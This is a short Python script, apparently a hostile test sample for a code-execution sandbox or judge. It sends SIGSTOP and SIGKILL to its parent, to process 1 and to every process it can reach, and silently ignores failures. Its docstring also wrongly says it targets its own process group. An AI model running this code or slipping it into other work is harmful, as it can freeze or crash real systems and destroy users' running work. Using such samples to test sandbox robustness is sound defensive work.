"""Sends SIGKILL and SIGSTOP to its parent, to process 1, to its group and to everybody."""

# deserves: correctness technique
# trick
import os
signal = __import__("signal")

for number in (signal.SIGSTOP, signal.SIGKILL):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, number)
        except OSError:
            pass
# end
